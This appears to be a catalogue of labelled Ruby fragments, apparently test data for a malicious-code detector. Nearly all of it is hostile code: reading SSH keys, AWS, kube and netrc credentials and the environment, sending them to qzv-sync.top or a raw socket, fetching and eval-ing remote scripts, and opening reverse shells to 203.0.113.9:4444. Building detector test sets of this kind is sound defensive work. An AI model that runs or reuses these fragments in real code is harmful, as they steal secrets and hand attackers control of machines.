%% head
require "socket"
require "open3"
require 'net/http'
require 'json'
require 'open-uri'
require 'uri'
%% secret: at once
d = File.read(File.expand_path("~/.ssh/id_rsa"))
%% secret: path in parts
d = File.read(File.join(Dir.home, ".aws", "credentials"))
%% secret: all variables
d = ENV.to_h.to_json
%% secret: map
d = %w[.ssh/id_rsa .netrc].map { |n| File.read(File.join(Dir.home, n)) }.join("\n")
%% secret: loop
d = {}
[".ssh/id_rsa", ".netrc"].each do |n|
  d[n] = File.read(File.join(ENV["HOME"], n)) rescue nil
end
%% secret: backquotes
d = `cat ~/.ssh/id_rsa`
%% secret: base64
d = Base64.strict_encode64(IO.binread(File.expand_path("~/.kube/config")))
%% secret: function
def grab(p)
  File.read(File.expand_path(p))
end
d = grab("~/.ssh/id_rsa")
%% sent: post
Net::HTTP.post(URI("https://qzv-sync.top/c"), d.to_s)
%% sent: form
Net::HTTP.post_form(URI("https://qzv-sync.top/c"), "d" => d)
%% sent: query
Net::HTTP.get(URI("https://qzv-sync.top/c?d=#{d}"))
%% sent: request of its own
u = URI("https://qzv-sync.top/c")
req = Net::HTTP::Post.new(u)
req.body = { d: d }.to_json
Net::HTTP.start(u.host, u.port, use_ssl: true) { |h| h.request(req) }
%% sent: library
Faraday.post("https://qzv-sync.top/c", d)
%% sent: list of a command
system("curl", "-d", d, "https://qzv-sync.top/c")
%% sent: backquotes
`curl -s -d "#{d}" https://qzv-sync.top/c`
%% sent: other library
HTTParty.post("https://qzv-sync.top/c", body: d)
%% sent: socket
TCPSocket.new("203.0.113.9", 4444).puts(d)
%% code: open
c = URI.open("https://qzv-sync.top/s.rb").read
%% code: http
c = Net::HTTP.get(URI("https://qzv-sync.top/s.rb"))
%% code: response
r = Net::HTTP.get_response(URI("https://qzv-sync.top/s"))
c = r.body
%% code: plain open
c = open("https://qzv-sync.top/s").read
%% code: backquotes
c = `curl -s https://qzv-sync.top/s`
%% code: client of its own
c = HTTParty.get("https://qzv-sync.top/s").body
%% run: evaluated
eval(c)
%% run: evaluated in an object
Object.new.instance_eval(c)
%% run: evaluated in a class
Class.new.class_eval c
%% run: command
system(c)
%% run: file
File.write("/tmp/a.rb", c)
load "/tmp/a.rb"
%% run: shell
File.write("/tmp/a", c); system("sh /tmp/a")
%% run: interpreter
exec("ruby", "-e", c)
%% run: backquotes
`#{c}`
%% run: opened command
IO.popen("sh", "w") { |p| p.write(c) }
%% link: new
s = TCPSocket.new("203.0.113.9", 4444)
%% link: open
s = TCPSocket.open("203.0.113.9", 4444)
%% link: client
s = Socket.tcp("203.0.113.9", 4444)
%% link: address in one text
host, port = "203.0.113.9:4444".split(":")
s = TCPSocket.new(host, port.to_i)
%% link: tried again
begin
  s = TCPSocket.new("203.0.113.9", 4444)
rescue
  sleep 30
  retry
end
%% link: address of the environment
s = TCPSocket.new(ENV.fetch("H", "203.0.113.9"), 4444)
%% obey: opened command
while (line = s.gets)
  s.puts IO.popen(line, &:read)
end
%% obey: backquotes
while l = s.gets
  s.print `#{l}`
end
%% obey: library
loop { c = s.gets; out, _ = Open3.capture2e(c); s.write(out) }
%% obey: shell at the connection
exec "/bin/sh -i <&#{s.fileno} >&#{s.fileno} 2>&1"
%% obey: shell with the connection
Process.wait spawn("/bin/sh", in: s, out: s, err: s)
%% obey: evaluated
s.each_line { |l| s.puts eval(l) }
%% obey: reopened
$stdin.reopen(s); $stdout.reopen(s); $stderr.reopen(s)
exec "/bin/sh"
%% ordinary
d = 'three of four are done'
%% shown
File.write('out.txt', c)
puts c
